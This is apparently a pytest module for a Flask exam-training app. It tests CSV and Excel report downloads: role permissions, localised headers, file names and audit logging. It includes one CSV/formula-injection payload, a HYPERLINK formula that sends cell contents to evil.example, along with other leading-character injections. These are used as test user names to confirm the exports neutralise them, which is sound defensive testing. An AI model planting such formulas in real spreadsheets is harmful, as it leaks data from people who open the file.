"""The export downloads over HTTP: who may download what, what the files hold, file names, audit rows."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from flask_babel import force_locale, gettext
from openpyxl import load_workbook

from app.audit import actions
from app.audit.models import AuditEvent
from app.core.roles import Role
from app.exams.models import Attempt
from app.extensions import db
from app.reports.exports import RESULT_COLUMNS, TRANSCRIPT_COLUMNS
from tests import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
STARTED = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)  # 09:00 in Asia/Shanghai


def _attempt(exam, user, *, number=1, score=None, max_score=10, status="submitted") -> Attempt:
    attempt = Attempt(exam_id=exam.id, user_id=user.id, number=number, status=status, seed=1,
                      started_at=STARTED, deadline_at=STARTED + timedelta(minutes=30),
                      submitted_at=STARTED + timedelta(minutes=20) if status == "submitted" else None,
                      submitted_how="candidate" if status == "submitted" else None,
                      max_score=Decimal(max_score), score=None if score is None else Decimal(score),
                      passed=None if score is None else Decimal(score) >= exam.pass_mark)
    db.session.add(attempt)
    db.session.flush()
    return attempt


@pytest.fixture
def world(app, users, org):
    """An exam the trainer owns (pass mark 6 of 10) with its make-up exam; collectors with awkward names
    and a zero-padded staff number; another trainer; a second exam the trainer does not own."""
    trainer = users[Role.TRAINER]
    team = org.stations[0].teams[0]
    collector = users[Role.COLLECTOR]
    padded = factories.make_user("000123", name="王五", team=team)
    evil = [factories.make_user(name=name, team=team) for name in (HYPERLINK, "+1", "-2", "@x", "\tx")]
    quoted = factories.make_user(name='李,"四"\n二', team=team)
    other_trainer = factories.make_user("trainer02", roles=[Role.TRAINER], name="别的讲师")
    made = factories.make_exam_bank(trainer)
    people = [collector, padded, *evil, quoted]
    exam = factories.make_exam(trainer, made.bank, audience=people, title="法规考试")
    makeup = factories.make_exam(trainer, made.bank, audience=[collector], title="法规补考")
    makeup.makeup_of_id = exam.id
    foreign = factories.make_exam(other_trainer, made.bank, audience=[collector], title="别人的考试",
                                  release_score="never")
    _attempt(exam, collector, score=4)
    _attempt(makeup, collector, score=Decimal("7.5"))
    _attempt(exam, padded, score=9)
    for user in evil:
        _attempt(exam, user, score=-2 if user.name == "-2" else 6)
    _attempt(exam, quoted, status="in_progress")
    _attempt(foreign, collector, score=8)
    db.session.commit()
    return SimpleNamespace(exam=exam, makeup=makeup, foreign=foreign, collector=collector, padded=padded,
                           evil=evil, quoted=quoted, other_trainer=other_trainer, people=people)


def _csv_rows(response) -> list[list[str]]:
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _sheet(response):
    return load_workbook(io.BytesIO(response.get_data())).active


def _headers(columns, locale) -> list[str]:
    with force_locale(locale):
        return [gettext(str(column.header._args[0])) if hasattr(column.header, "_args") else str(column.header)
                for column in columns]


def _exports(kind=None):
    events = db.session.scalars(db.select(AuditEvent).where(AuditEvent.action == actions.REPORT_EXPORTED)
                                .order_by(AuditEvent.id)).all()
    return [e for e in events if kind is None or e.details["report"] == kind]


def test_exam_results_csv_holds_every_attempt_with_make_up_marker_and_local_times(client, login, users, world):
    login(users[Role.HR])
    response = client.get(f"/reports/exams/{world.exam.id}/results.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = _csv_rows(response)
    assert rows[0] == _headers(RESULT_COLUMNS, "zh_Hans")
    body = rows[1:]
    assert len(body) == 1 + 1 + 5 + 1 + 1  # collector (exam + make-up), padded, five evil, quoted
    padded = next(row for row in body if row[1] == "王五")
    assert padded[0] == "000123"
    assert padded[7:] == ["1", gettext_zh("Graded"), "2026-03-02 09:00:00", "2026-03-02 09:20:00", "9", "10",
                          "90", gettext_zh("Pass"), gettext_zh("Yes")]
    makeups = [row for row in body if row[6]]
    assert [(row[5], row[11], row[14]) for row in makeups] == [("法规补考", "7.5", gettext_zh("Pass"))]
    quoted = next(row for row in body if row[1] == '李,"四"\n二')
    assert quoted[8] == gettext_zh("In progress") and quoted[11] == ""
    assert not any(row[5] == "别人的考试" for row in body)


def gettext_zh(msgid: str) -> str:
    with force_locale("zh_Hans"):
        return gettext(msgid)


def test_exam_results_neutralise_injections_in_both_formats(client, login, users, world):
    login(users[Role.TRAINER])
    names = {row[1] for row in _csv_rows(client.get(f"/reports/exams/{world.exam.id}/results.csv"))}
    assert {"'" + HYPERLINK, "'+1", "'-2", "'@x", "'\tx"} <= names
    sheet = _sheet(client.get(f"/reports/exams/{world.exam.id}/results.xlsx"))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    quoted = {row[1].value for row in sheet.iter_rows(min_row=2) if row[1].quotePrefix and row[1].data_type == "s"}
    assert {HYPERLINK, "+1", "-2", "@x", "\tx"} <= quoted  # the text as typed, shown as text by Excel's style
    minus = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "-2")
    assert minus[11].value == -2 and minus[11].data_type == "n"  # a real negative score stays a number


def test_exam_results_xlsx_types_header_and_filter(client, login, users, world):
    login(users[Role.ADMIN])
    response = client.get(f"/reports/exams/{world.exam.id}/results.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = _sheet(response)
    assert [cell.value for cell in sheet[1]] == _headers(RESULT_COLUMNS, "zh_Hans")
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:P{sheet.max_row}"
    padded = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "王五")
    assert (padded[0].value, padded[0].data_type) == ("000123", "s")
    assert padded[7].value == 1 and padded[7].data_type == "n"
    assert padded[9].value == datetime(2026, 3, 2, 9, 0) and padded[9].is_date
    assert (padded[11].value, padded[12].value, padded[13].value) == (9, 10, 90)
    assert all(row[11].data_type == "n" for row in sheet.iter_rows(min_row=2) if row[11].value is not None)


def test_headers_and_labels_follow_the_readers_language(client, login, users, world):
    hr = users[Role.HR]
    hr.locale = "en"
    db.session.commit()
    login(hr)
    rows = _csv_rows(client.get(f"/reports/exams/{world.exam.id}/results.csv"))
    assert rows[0][:3] == ["Staff no.", "Name", "Station"]
    assert rows[0] == _headers(RESULT_COLUMNS, "en")
    assert "Pass" in {row[14] for row in rows[1:]}
    sheet = _sheet(client.get(f"/reports/exams/{world.exam.id}/results.xlsx"))
    assert [cell.value for cell in sheet[1]] == rows[0]


def test_file_names_are_chinese_with_an_ascii_fallback(client, login, users, world):
    login(users[Role.HR])
    response = client.get(f"/reports/exams/{world.exam.id}/results.xlsx")
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    expected = gettext_zh("Results of %(exam)s %(date)s") % {"exam": "法规考试", "date": ""}
    assert f"filename*=UTF-8''{quote(expected.strip(), safe='')}" in disposition
    assert disposition.endswith(".xlsx")
    assert "no-store" in response.headers["Cache-Control"]


def test_every_download_is_audited_with_its_row_count(client, login, users, world):
    login(users[Role.TRAINER])
    client.get(f"/reports/exams/{world.exam.id}/results.csv").get_data()
    client.get(f"/reports/exams/{world.exam.id}/results.xlsx").get_data()
    events = _exports("exam_results")
    assert [(e.actor_id, e.details["format"], e.details["rows"]) for e in events] == [
        (users[Role.TRAINER].id, "csv", 9), (users[Role.TRAINER].id, "xlsx", 9)]
    assert events[0].target_type == "exams" and events[0].target_id == str(world.exam.id)
    assert events[0].details["exams"] == [world.exam.id, world.makeup.id]


def test_another_trainer_may_not_export_the_exam(client, login, world):
    login(world.other_trainer)
    assert client.get(f"/reports/exams/{world.exam.id}/results.csv").status_code == 403
    assert client.get(f"/reports/exams/{world.exam.id}/results.xlsx").status_code == 403
    assert client.get(f"/reports/exams/{world.foreign.id}/results.csv").status_code == 200
    assert not _exports("exam_results")[:-1]


def test_a_collector_may_not_export_exam_results_or_all_results(client, login, world):
    login(world.collector)
    assert client.get(f"/reports/exams/{world.exam.id}/results.csv").status_code == 403
    assert client.get("/reports/results.xlsx").status_code == 403
    assert not _exports()


def test_anonymous_visitors_are_sent_to_the_login_page(client, users, world):
    for url in (f"/reports/exams/{world.exam.id}/results.csv", "/reports/results.csv",
                f"/reports/staff/{world.collector.id}/transcript.xlsx"):
        response = client.get(url)
        assert response.status_code == 302 and response.headers["Location"].startswith("/login")


def test_exports_need_a_fresh_login(app, client, login, users, world):
    from app.accounts.models import LoginSession

    login(users[Role.HR])
    for row in db.session.scalars(db.select(LoginSession)):
        row.authenticated_at -= timedelta(hours=2)
    db.session.commit()
    response = client.get(f"/reports/exams/{world.exam.id}/results.csv")
    assert response.status_code == 302 and "/account/confirm" in response.headers["Location"]
    assert not _exports()


def test_all_results_holds_every_exam_for_hr(client, login, users, world):
    login(users[Role.HR])
    rows = _csv_rows(client.get("/reports/results.csv"))
    assert len(rows) - 1 == 10
    assert {row[5] for row in rows[1:]} == {"法规考试", "法规补考", "别人的考试"}
    assert _exports("all_results")[0].details["rows"] == 10


def test_hr_downloads_anyones_transcript_with_every_course_and_attempt(client, login, users, world):
    login(users[Role.HR])
    response = client.get(f"/reports/staff/{world.collector.id}/transcript.xlsx")
    assert response.status_code == 200
    sheet = _sheet(response)
    assert [cell.value for cell in sheet[1]] == _headers(TRANSCRIPT_COLUMNS, "zh_Hans")
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    exams = [(row[4], row[5], row[10]) for row in rows if row[4]]
    assert exams == [("法规考试", None, 4), ("法规补考", gettext_zh("Make-up"), 7.5), ("别人的考试", None, 8)]
    assert {row[0] for row in rows} == {"c0001"}
    not_taken = [row for row in rows if row[7] == gettext_zh("Not taken")]
    assert len(not_taken) == 3  # the other three courses
    event = _exports("transcript")[0]
    assert event.target_type == "users" and event.target_id == str(world.collector.id)
    assert event.details["rows"] == len(rows)


def test_a_collector_downloads_their_own_transcript_with_released_scores_only(client, login, world):
    login(world.collector)
    response = client.get(f"/reports/staff/{world.collector.id}/transcript.csv")
    assert response.status_code == 200
    rows = _csv_rows(response)
    foreign = next(row for row in rows if row[4] == "别人的考试")
    assert foreign[7] == gettext_zh("Submitted")
    assert foreign[10:] == ["", "", "", "", ""]  # this exam never releases scores (nor which attempt counts)
    own = next(row for row in rows if row[4] == "法规考试")
    assert own[10:] == ["4", "10", "40", gettext_zh("Fail"), gettext_zh("Yes")]


def test_a_collector_may_not_download_someone_elses_transcript(client, login, world):
    login(world.collector)
    assert client.get(f"/reports/staff/{world.padded.id}/transcript.csv").status_code == 404
    assert client.get(f"/reports/staff/{world.padded.id}/transcript.xlsx").status_code == 404
    assert not _exports()


def test_a_trainer_may_not_download_transcripts(client, login, users, world):
    login(users[Role.TRAINER])
    assert client.get(f"/reports/staff/{world.collector.id}/transcript.csv").status_code == 403


def test_transcript_names_the_batch_the_person_trained_in(client, login, users, world):
    batch = factories.make_batch("第一期", members=[world.collector], starts_on=datetime(2026, 1, 5).date())
    factories.make_session(batch, "law", users[Role.TRAINER], seats=[world.collector])
    db.session.commit()
    login(users[Role.HR])
    rows = _csv_rows(client.get(f"/reports/staff/{world.collector.id}/transcript.csv"))
    assert {row[3] for row in rows[1:] if row[4] in ("法规考试", "法规补考")} == {"第一期"}
    assert {row[3] for row in rows[1:] if row[7] == gettext_zh("Not taken")} == {""}


def test_export_links_are_on_the_results_staff_and_my_exams_pages(app, client, login, users, world):
    login(users[Role.HR])
    page = client.get(f"/exams/{world.exam.id}/results").get_data(as_text=True)
    assert f"/reports/exams/{world.exam.id}/results.xlsx" in page and "results-downloads" in page
    page = client.get(f"/staff/{world.collector.id}").get_data(as_text=True)
    assert f"/reports/staff/{world.collector.id}/transcript.csv" in page
    assert "/reports/results.xlsx" in client.get("/hr").get_data(as_text=True)
    collector = app.test_client()
    collector.post("/login", data={"staff_no": world.collector.staff_no, "password": factories.PASSWORD})
    page = collector.get("/my/exams").get_data(as_text=True)
    assert f"/reports/staff/{world.collector.id}/transcript.xlsx" in page


def test_an_exported_sheet_is_headed_with_the_reports_title_and_set_up_to_print(client, login, users, world):
    login(users[Role.TRAINER])
    response = client.get(f"/reports/exams/{world.exam.id}/results.xlsx")
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.active
    assert "法规考试" in sheet.oddHeader.center.text and sheet.oddFooter.center.text == "第 &P 页，共 &N 页"
    assert "法规考试" in book.properties.title and book.properties.creator == gettext_zh("Toll Training and Exams")
    assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$1:$1"


def test_export_buttons_offer_excel_first_and_csv_for_other_systems_with_the_zeros_hint(client, login, users, world):
    login(users[Role.HR])
    page = client.get(f"/exams/{world.exam.id}/results").get_data(as_text=True)
    xlsx = page.index(f"/reports/exams/{world.exam.id}/results.xlsx")
    csv_link = page.index(f"/reports/exams/{world.exam.id}/results.csv")
    assert xlsx < csv_link and 'class="btn btn-sm btn-success"' in page[xlsx - 60:xlsx]
    assert gettext_zh("CSV (for importing into other systems)") == "CSV（供其他系统导入）"
    assert "CSV（供其他系统导入）" in page and 'aria-describedby="results-downloads-csv-hint"' in page
    hint = gettext_zh("Opening a CSV file by double-click in a spreadsheet drops the leading zeros of staff numbers: "
                      "use the Excel (.xlsx) file to read or print.")
    assert hint in page and '="0' not in page
    users[Role.HR].locale = "en"
    db.session.commit()
    english = client.get(f"/exams/{world.exam.id}/results").get_data(as_text=True)
    assert "CSV (for importing into other systems)" in english and "use the Excel (.xlsx) file" in english
